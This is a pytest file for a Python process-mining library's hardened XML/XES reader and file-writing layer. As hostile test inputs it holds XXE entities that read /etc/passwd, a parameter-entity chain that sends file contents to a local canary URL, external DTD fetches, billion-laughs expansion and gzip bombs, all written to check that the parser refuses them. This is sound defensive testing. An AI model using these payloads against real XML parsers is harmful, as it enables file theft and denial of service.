"""The safe XML front-end and local-file layer: hostile XML, size caps, non-files, atomic writes.

Every hostile file is generated in tmp_path. Each call runs under a time guard, so a hang fails
the test instead of blocking the suite.
"""

from __future__ import annotations

import gzip
import os
import socket
import stat
import threading
import time
from pathlib import Path

import pytest

from journeylog.errors import (
    INVALID_INPUT,
    RESOURCE_LIMIT,
    UNSAFE_INPUT,
    USAGE,
    InvalidInput,
    JourneylogError,
    ResourceLimit,
    UnsafeInput,
    UsageError,
)
from journeylog.io.files import (
    atomic_output,
    check_output_path,
    local_file,
    open_input,
    read_input_bytes,
    write_bytes_atomic,
    write_text_atomic,
)
from journeylog.io.xes import read_xes
from journeylog.io.xml import check_prolog, iterparse_xml, local_name, parse_xml

GUARD_SECONDS = 10


def within(seconds: float, fn, *args, **kwargs):
    """Call ``fn`` in a daemon thread; fail if it has not returned after ``seconds``."""
    box: dict[str, object] = {}

    def target() -> None:
        try:
            box["value"] = fn(*args, **kwargs)
        except BaseException as exc:  # noqa: BLE001 - handed back to the caller below
            box["error"] = exc

    start = time.monotonic()
    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"{getattr(fn, '__name__', fn)} did not return within {seconds} s"
    box["elapsed"] = time.monotonic() - start
    if "error" in box:
        raise box["error"]  # type: ignore[misc]
    return box.get("value")


def drain_iterparse(path, **kw) -> int:
    return sum(1 for _ in iterparse_xml(path, **kw))


def parse_root(path, **kw):
    return parse_xml(path, **kw).getroot()


# All three XML entry points must refuse the same hostile files.
READERS = {
    "read_xes": lambda p, **kw: read_xes(p, **kw),
    "parse_xml": lambda p, **kw: parse_root(p, root="log", **kw),
    "iterparse_xml": lambda p, **kw: drain_iterparse(p, root="log", **kw),
}


@pytest.fixture(params=sorted(READERS))
def reader(request):
    return READERS[request.param]


@pytest.fixture
def listener():
    """A local TCP socket that records whether anything connected to it (a network canary)."""
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.setblocking(False)

    class Canary:
        port = srv.getsockname()[1]

        @staticmethod
        def connected() -> bool:
            time.sleep(0.05)
            try:
                conn, _ = srv.accept()
            except BlockingIOError:
                return False
            conn.close()
            return True

    yield Canary
    srv.close()


def passwd_marker() -> str:
    try:
        first = Path("/etc/passwd").read_text().splitlines()[0]
    except (OSError, IndexError):
        return "root:x:0:0"
    return first.split(":")[0] + ":" + first.split(":")[1] + ":"


def assert_no_leak(exc: BaseException) -> None:
    marker = passwd_marker()
    text = str(exc) + repr(exc)
    assert marker not in text
    assert "/bin/" not in text


def xes_with(prolog: str, body: str = '<trace><string key="concept:name" value="&x;"/>'
                                     '<event><string key="concept:name" value="&x;"/></event></trace>') -> str:
    return '<?xml version="1.0"?>\n' + prolog + "\n<log>" + body + "</log>\n"


# ---------------------------------------------------------------- entities and DTDs -> exit 5


def test_external_entity_is_refused(tmp_path, reader):
    path = tmp_path / "xxe.xes"
    path.write_text(xes_with('<!DOCTYPE log [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))
    with pytest.raises(UnsafeInput) as info:
        within(GUARD_SECONDS, reader, path)
    assert info.value.code == UNSAFE_INPUT == 5
    assert info.value.row == 2
    assert "DOCTYPE" in info.value.message
    assert_no_leak(info.value)


def test_parameter_entity_chain_is_refused(tmp_path, reader, listener):
    dtd = (
        "<!DOCTYPE log [\n"
        '  <!ENTITY % file SYSTEM "file:///etc/passwd">\n'
        f"  <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:{listener.port}/?d=%file;'>\">\n"
        "  %eval;\n  %exfil;\n]>"
    )
    path = tmp_path / "pe.xes"
    path.write_text(xes_with(dtd, '<trace><string key="concept:name" value="c"/></trace>'))
    with pytest.raises(UnsafeInput) as info:
        within(GUARD_SECONDS, reader, path)
    assert_no_leak(info.value)
    assert not listener.connected()


def test_external_dtd_over_http_is_refused_without_network(tmp_path, reader, listener):
    path = tmp_path / "dtd.xes"
    path.write_text(xes_with(f'<!DOCTYPE log SYSTEM "http://127.0.0.1:{listener.port}/log.dtd">',
                             '<trace><string key="concept:name" value="c"/></trace>'))
    with pytest.raises(UnsafeInput):
        within(GUARD_SECONDS, reader, path)
    assert not listener.connected()


def test_billion_laughs_is_refused_fast(tmp_path, reader):
    lines = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        lines.append(f'<!ENTITY lol{i} "' + f"&{prev};" * 10 + '">')
    path = tmp_path / "laughs.xes"
    path.write_text(xes_with("<!DOCTYPE log [\n" + "\n".join(lines) + "\n]>",
                             '<trace><string key="concept:name" value="&lol9;"/></trace>'))
    start = time.monotonic()
    with pytest.raises(UnsafeInput):
        within(GUARD_SECONDS, reader, path)
    assert time.monotonic() - start < 5


def test_doctype_behind_a_long_prolog_is_refused(tmp_path, reader):
    path = tmp_path / "late.xes"
    path.write_text('<?xml version="1.0"?>\n' + "<!-- padding -->\n" * 80_000
                    + '<!DOCTYPE log [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<log><trace>'
                    '<string key="concept:name" value="&x;"/></trace></log>')
    with pytest.raises(UnsafeInput) as info:
        within(GUARD_SECONDS, reader, path)
    assert_no_leak(info.value)


def test_doctype_inside_gzip_is_refused(tmp_path, reader):
    path = tmp_path / "xxe.xes.gz"
    path.write_bytes(gzip.compress(xes_with('<!DOCTYPE log [<!ENTITY x SYSTEM "file:///etc/passwd">]>').encode()))
    with pytest.raises(UnsafeInput) as info:
        within(GUARD_SECONDS, reader, path)
    assert_no_leak(info.value)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_doctype_in_other_encodings_is_refused(tmp_path, reader, encoding):
    path = tmp_path / "wide.xes"
    text = xes_with('<!DOCTYPE log [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace(
        'version="1.0"', f'version="1.0" encoding="{encoding.upper()}"')
    path.write_bytes(text.encode(encoding))
    with pytest.raises(UnsafeInput) as info:
        within(GUARD_SECONDS, reader, path)
    assert info.value.row == 2
    assert_no_leak(info.value)


def test_entity_reference_without_doctype_is_refused(tmp_path, reader):
    path = tmp_path / "ref.xes"
    path.write_text('<log>\n<trace><string key="concept:name" value="&x;"/></trace></log>')
    with pytest.raises(UnsafeInput) as info:
        within(GUARD_SECONDS, reader, path)
    assert info.value.row == 2


# ---------------------------------------------------------------- size and depth limits -> exit 4


def test_deep_nesting_hits_a_limit_fast(tmp_path):
    generic = tmp_path / "deep.xml"
    generic.write_text("<log>" + "<a>" * 100_000 + "</a>" * 100_000 + "</log>")
    nested_xes = tmp_path / "deep.xes"  # nesting XES itself allows: containers in containers
    nested_xes.write_text('<log><trace><string key="concept:name" value="c"/><event>'
                          + '<container key="c">' * 100_000 + "</container>" * 100_000 + "</event></trace></log>")
    for call in (lambda: parse_xml(generic), lambda: drain_iterparse(generic), lambda: read_xes(nested_xes)):
        start = time.monotonic()
        with pytest.raises((ResourceLimit, UnsafeInput)) as info:
            within(GUARD_SECONDS, call)
        assert info.value.code in (RESOURCE_LIMIT, UNSAFE_INPUT)
        assert time.monotonic() - start < 5


def test_deep_nesting_of_unknown_elements_in_xes_is_invalid(tmp_path):
    path = tmp_path / "deep.xes"
    path.write_text("<log>" + "<a>" * 100_000 + "</a>" * 100_000 + "</log>")
    with pytest.raises((InvalidInput, ResourceLimit)):
        within(GUARD_SECONDS, read_xes, path)


def test_huge_attribute_value_hits_a_limit_fast(tmp_path, reader):
    path = tmp_path / "big.xes"
    path.write_text('<log><trace><string key="concept:name" value="' + "A" * (15 * 1024 * 1024) + '"/></trace></log>')
    start = time.monotonic()
    with pytest.raises((ResourceLimit, UnsafeInput)) as info:
        within(GUARD_SECONDS, reader, path)
    assert info.value.code in (RESOURCE_LIMIT, UNSAFE_INPUT)
    assert time.monotonic() - start < 5


def test_gzip_that_inflates_past_the_cap(tmp_path, reader):
    path = tmp_path / "bomb.xes.gz"
    trace = b'<trace><string key="concept:name" value="c"/><event><string key="concept:name" value="a"/></event></trace>\n'
    path.write_bytes(gzip.compress(b"<log>" + trace * 400_000 + b"</log>", compresslevel=9))
    assert path.stat().st_size < 1_000_000
    with pytest.raises(ResourceLimit) as info:
        within(GUARD_SECONDS, reader, path, max_bytes=1_000_000)
    assert info.value.code == RESOURCE_LIMIT
    assert "1,000,000-byte limit" in info.value.message


def test_read_input_bytes_cap(tmp_path):
    path = tmp_path / "zeros.gz"
    path.write_bytes(gzip.compress(b"\0" * 5_000_000))
    with pytest.raises(ResourceLimit):
        within(GUARD_SECONDS, read_input_bytes, path, max_bytes=100_000)
    assert len(read_input_bytes(path, max_bytes=5_000_000)) == 5_000_000


# ---------------------------------------------------------------- not XES / not XML -> exit 3


@pytest.mark.parametrize(
    ("content", "row", "words"),
    [
        (b"", None, "empty"),
        (b"  \n\t\n", None, "empty"),
        (b'<?xml version="1.0"?>\n<log>\n<trace>\n<event>\n', 5, "malformed XML"),
        (b"<!DOCTYPE html>\n<html><head><title>Log</title></head><body><p>x<br></body></html>", 1, "HTML page"),
        (b"<html>\n<body><p>x</p></body></html>\n", 1, "wrong root element <html>"),
        (b'<?xml version="1.0"?>\n<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>', 2,
         "wrong root element <definitions>"),
        (b"case,activity,timestamp\n1,a,2024-01-01\n", 1, ""),
        (b"\x00\x01\x02\xff\xfe garbage", None, ""),
    ],
    ids=["empty", "blank", "truncated", "html-doctype", "html", "wrong-root", "csv", "binary"],
)
def test_not_an_xes_file(tmp_path, reader, content, row, words):
    path = tmp_path / "log.xes"
    path.write_bytes(content)
    with pytest.raises(InvalidInput) as info:
        within(GUARD_SECONDS, reader, path)
    err = info.value
    assert err.code == INVALID_INPUT == 3
    assert err.path == str(path)
    if row is not None:
        assert err.row == row
    assert words in err.message


def test_truncated_xml_names_line_and_column(tmp_path):
    path = tmp_path / "cut.xes"
    path.write_text('<log>\n<trace>\n<string key="concept:name" value="c"/>\n<event>\n<string key="concept:na')
    with pytest.raises(InvalidInput) as info:
        read_xes(path)
    assert info.value.row == 5
    assert isinstance(info.value.column, int)
    assert str(info.value).startswith(f"{path}:5:")


def _damaged_gzip(damage: str) -> bytes:
    data = bytearray(gzip.compress(b"<log>" + b'<trace><string key="concept:name" value="c"/></trace>' * 5000 + b"</log>"))
    if damage == "truncated":
        return bytes(data[: len(data) // 2])
    if damage == "bad-header":
        return b"\x1f\x8b" + b"\x00garbage" * 20
    for i in range(20, len(data) - 20, 7):  # flipped bits in the deflate stream: zlib.error
        data[i] ^= 0x5A
    return bytes(data)


@pytest.mark.parametrize("damage", ["truncated", "bad-header", "bit-flips"])
def test_damaged_gzip_is_invalid_input(tmp_path, reader, damage):
    path = tmp_path / "log.xes.gz"
    path.write_bytes(_damaged_gzip(damage))
    with pytest.raises(InvalidInput) as info:
        within(GUARD_SECONDS, reader, path)
    assert "gzip" in info.value.message


@pytest.mark.parametrize("damage", ["truncated", "bad-header", "bit-flips"])
def test_damaged_gzip_read_input_bytes(tmp_path, damage):
    path = tmp_path / "data.csv.gz"
    path.write_bytes(_damaged_gzip(damage))
    with pytest.raises(InvalidInput) as info:
        within(GUARD_SECONDS, read_input_bytes, path)
    assert "gzip" in info.value.message


# ---------------------------------------------------------------- not a local regular file


@pytest.mark.parametrize("url_kind", ["http", "https", "file", "ftp"])
def test_urls_are_refused_without_network(url_kind, listener):
    url = {
        "http": f"http://127.0.0.1:{listener.port}/log.xes",
        "https": f"https://127.0.0.1:{listener.port}/log.xes",
        "file": "file:///etc/passwd",
        "ftp": f"ftp://127.0.0.1:{listener.port}/log.xes",
    }[url_kind]
    for call in (read_xes, parse_xml, drain_iterparse, read_input_bytes, local_file, open_input):
        with pytest.raises(UnsafeInput) as info:
            within(GUARD_SECONDS, call, url)
        assert info.value.code == UNSAFE_INPUT
        assert "local regular files" in info.value.message
        assert_no_leak(info.value)
    assert not listener.connected()


def _fifo(tmp_path: Path) -> Path:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs on this platform")
    path = tmp_path / "pipe.xes"
    os.mkfifo(path)
    return path


@pytest.mark.parametrize("kind", ["directory", "fifo", "dev-zero", "missing", "symlink-to-dev-zero"])
def test_non_files_are_usage_errors_and_do_not_hang(tmp_path, kind):
    if kind == "directory":
        path = tmp_path / "logs.xes"
        path.mkdir()
    elif kind == "fifo":
        path = _fifo(tmp_path)
    elif kind == "dev-zero":
        if not Path("/dev/zero").exists():
            pytest.skip("no /dev/zero")
        path = Path("/dev/zero")
    elif kind == "symlink-to-dev-zero":
        if not Path("/dev/zero").exists():
            pytest.skip("no /dev/zero")
        path = tmp_path / "zero.xes"
        path.symlink_to("/dev/zero")
    else:
        path = tmp_path / "nope.xes"
    for call in (read_xes, parse_xml, drain_iterparse, read_input_bytes, local_file):
        with pytest.raises(UsageError) as info:
            within(GUARD_SECONDS, call, path)
        assert info.value.code == USAGE == 2
        assert info.value.path == str(path)


# ---------------------------------------------------------------- the good path still works


def test_benign_prolog_and_namespaces(tmp_path):
    path = tmp_path / "ok.xes"
    path.write_bytes(
        "\ufeff<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<!-- a comment -->\r\n<?pi x?>\r\n"
        "<x:log xmlns:x=\"http://www.xes-standard.org/\"><x:trace><x:string key=\"concept:name\" value=\"c\"/>"
        "<x:event><x:string key=\"concept:name\" value=\"é\"/></x:event></x:trace></x:log>\r\n".encode("utf-8")
    )
    assert local_name(parse_xml(path, root="log").getroot().tag) == "log"
    assert read_xes(path).events["concept:name"].to_list() == ["é"]


def test_check_prolog_directly():
    check_prolog(b'<?xml version="1.0"?>\n<!-- c -->\n<log/>', "x.xes")
    with pytest.raises(UnsafeInput) as info:
        check_prolog(b'<?xml version="1.0"?>\n<!-- c -->\n<!DOCTYPE log>\n<log/>', "x.xes")
    assert info.value.row == 3
    with pytest.raises(UnsafeInput):  # the root element never starts within an incomplete head
        check_prolog(b"<!-- " + b"x" * 100, "x.xes", complete=False)
    with pytest.raises(InvalidInput):
        check_prolog(b"", "x.xes")


def test_root_check_accepts_alternatives(tmp_path):
    path = tmp_path / "m.pnml"
    path.write_text('<?xml version="1.0"?>\n<pnml><net/></pnml>')
    assert local_name(parse_xml(path, root=("definitions", "pnml")).getroot().tag) == "pnml"
    with pytest.raises(InvalidInput) as info:
        parse_xml(path, root="definitions")
    assert info.value.row == 2


# ---------------------------------------------------------------- atomic output


def listing(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def test_output_path_that_is_a_directory(tmp_path):
    target = tmp_path / "report.json"
    target.mkdir()
    (target / "keep.txt").write_text("keep")
    before = listing(tmp_path)
    with pytest.raises(UsageError) as info:
        write_text_atomic(target, "{}")
    assert info.value.code == USAGE
    assert listing(tmp_path) == before
    assert listing(target) == ["keep.txt"]
    with pytest.raises(UsageError), atomic_output(target):
        pytest.fail("the block must not run")  # pragma: no cover
    assert listing(tmp_path) == before


def test_output_folder_missing(tmp_path):
    with pytest.raises(UsageError):
        write_bytes_atomic(tmp_path / "no" / "such" / "out.csv", b"x")
    assert listing(tmp_path) == []
    with pytest.raises(UsageError):
        check_output_path(tmp_path / "missing" / "x")


@pytest.mark.parametrize("exc_type", [RuntimeError, KeyboardInterrupt])
def test_failure_inside_atomic_output_keeps_the_old_file(tmp_path, exc_type):
    target = tmp_path / "model.bpmn"
    target.write_text("old content")
    with pytest.raises(exc_type), atomic_output(target) as tmp:
        assert tmp.parent == tmp_path
        tmp.write_text("half-written new cont")
        raise exc_type("killed")
    assert target.read_text() == "old content"
    assert listing(tmp_path) == ["model.bpmn"]


def test_failure_inside_atomic_output_creates_nothing(tmp_path):
    with pytest.raises(InvalidInput), atomic_output(tmp_path / "new.svg") as tmp:
        tmp.write_text("<svg")
        raise InvalidInput("bad model")
    assert listing(tmp_path) == []


def test_atomic_write_replaces_and_keeps_mode(tmp_path):
    target = tmp_path / "out.json"
    target.write_text("old")
    os.chmod(target, 0o640)
    write_text_atomic(target, '{"ok": true}')
    assert target.read_text() == '{"ok": true}'
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert listing(tmp_path) == ["out.json"]

    fresh = tmp_path / "new.json"
    write_bytes_atomic(fresh, b"[]")
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o666 & ~umask


def test_dash_writes_to_stdout(tmp_path, capsysbinary, monkeypatch):
    monkeypatch.chdir(tmp_path)
    write_text_atomic("-", "hello\n")
    assert capsysbinary.readouterr().out == b"hello\n"
    assert listing(tmp_path) == []


def test_error_codes_and_one_line():
    errors = [UsageError("x"), InvalidInput("x"), ResourceLimit("x"), UnsafeInput("x")]
    assert [e.code for e in errors] == [2, 3, 4, 5]
    assert all(isinstance(e, JourneylogError) for e in errors)
    err = InvalidInput("bad\nvalue", path="a.xes", row=3, column="k", hint="fix it")
    assert str(err) == "a.xes:3:k: bad value (hint: fix it)"


# ---------------------------------------------------------------- defence in depth


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE log [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE log [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/x">]>',
        "<!DOCTYPE log [<!ENTITY % file SYSTEM \"file:///etc/passwd\">"
        "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:{port}/?d=%file;'>\"> %eval; %exfil;]>",
        '<!DOCTYPE log SYSTEM "http://127.0.0.1:{port}/log.dtd">',
        '<!DOCTYPE log [<!ENTITY lol "lol"><!ENTITY l1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        + "".join(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(2, 10))
        + '<!ENTITY x "&l9;">]>',
    ],
    ids=["xxe-file", "xxe-http", "parameter-entities", "external-dtd", "billion-laughs"],
)
def test_parser_flags_hold_even_without_the_prolog_check(tmp_path, monkeypatch, reader, listener, prolog):
    """If the DOCTYPE scan were bypassed, the parser settings alone must still refuse the file."""
    import journeylog.io.xml as xml_module

    monkeypatch.setattr(xml_module, "check_prolog", lambda head, label, complete=True: None)
    path = tmp_path / "hostile.xes"
    path.write_text(xes_with(prolog.replace("{port}", str(listener.port))))
    with pytest.raises((UnsafeInput, ResourceLimit)) as info:
        within(GUARD_SECONDS, reader, path)
    assert_no_leak(info.value)
    assert not listener.connected()
